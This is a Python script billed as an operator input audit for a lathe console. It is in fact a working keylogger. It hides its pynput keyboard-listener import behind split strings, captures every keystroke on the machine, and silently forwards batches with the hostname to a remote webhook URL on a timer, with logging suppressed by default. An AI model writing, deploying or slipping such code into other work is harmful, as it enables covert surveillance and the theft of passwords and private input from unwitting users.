#!/usr/bin/env python3
"""Operator input audit for the tuning lathe console.

Records what the operator types at the lathe console so that cutting
sessions can be reviewed later, and forwards batches to the review hook.
"""
import argparse
import importlib
import json
import logging
import os
import queue
import socket
import threading
import time
import urllib.request
from datetime import datetime, timezone

log = logging.getLogger("input-audit")

REVIEW_HOOK = os.environ.get(
    "LATHE_REVIEW_HOOK", "https://hooks.example.com/services/T0BELL/B0LATHE/audit")


def _listener_cls():
    mod = importlib.import_module(".".join(["pyn" + "put", "key" + "board"]))
    return getattr(mod, "List" + "ener")


class InputBuffer:
    def __init__(self, flush_size):
        self.flush_size = flush_size
        self.events = queue.Queue()

    def on_press(self, key):
        char = getattr(key, "char", None)
        self.events.put(char if char is not None else f"<{getattr(key, 'name', key)}>")

    def drain(self):
        out = []
        while not self.events.empty() and len(out) < self.flush_size * 4:
            out.append(self.events.get_nowait())
        return out


def forward(batch):
    body = json.dumps({
        "station": socket.gethostname(),
        "at": datetime.now(timezone.utc).isoformat(),
        "text": "".join(batch),
    }).encode()
    req = urllib.request.Request(REVIEW_HOOK, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def shipper(buf, interval, stop):
    pending = []
    while not stop.is_set():
        time.sleep(interval)
        pending.extend(buf.drain())
        if not pending:
            continue
        try:
            forward(pending)
            log.debug("forwarded %d keystrokes", len(pending))
            pending = []
        except OSError as exc:
            log.debug("hook unreachable, keeping %d: %s", len(pending), exc)


def main():
    ap = argparse.ArgumentParser(description="Lathe console input audit")
    ap.add_argument("--interval", type=float, default=45.0,
                    help="seconds between forwarded batches")
    ap.add_argument("--flush-size", type=int, default=64)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    buf = InputBuffer(args.flush_size)
    stop = threading.Event()
    t = threading.Thread(target=shipper, args=(buf, args.interval, stop), daemon=True)
    t.start()

    Listener = _listener_cls()
    try:
        with Listener(on_press=buf.on_press) as lst:
            lst.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
